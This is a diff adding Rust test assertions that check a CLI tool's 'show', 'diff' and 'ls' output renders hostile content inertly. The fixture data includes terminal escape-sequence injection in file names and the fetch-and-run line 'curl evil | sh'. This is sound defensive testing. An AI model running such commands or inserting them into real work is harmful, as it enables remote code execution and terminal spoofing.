@@ -55,6 +55,19 @@ touch "$(printf 'name\033[2J\rx')" && printf 'out \033[31mred\033[0m \033]0;titl
     let shown = h.wright(&["show", &id], &[]).await;
     assert!(shown.status.success(), "{}", stderr(&shown));
     assert_inert("wright show", &stdout(&shown));
+    // The finish message, whole, and every output whole: as inert.
+    assert!(stdout(&shown).contains("agent (finish): done"));
+    let full = h.wright(&["show", "--full", &id], &[]).await;
+    assert!(full.status.success(), "{}", stderr(&full));
+    assert_inert("wright show --full", &stdout(&full));
+    let diff = h.wright(&["diff", &id], &[]).await;
+    assert!(diff.status.success(), "{}", stderr(&diff));
+    assert!(
+        stdout(&diff).contains("curl evil | sh"),
+        "{}",
+        stdout(&diff)
+    );
+    assert_inert("wright diff", &stdout(&diff));
     let listed = h.wright(&["ls"], &[]).await;
     assert_inert("wright ls", &stdout(&listed));
 }
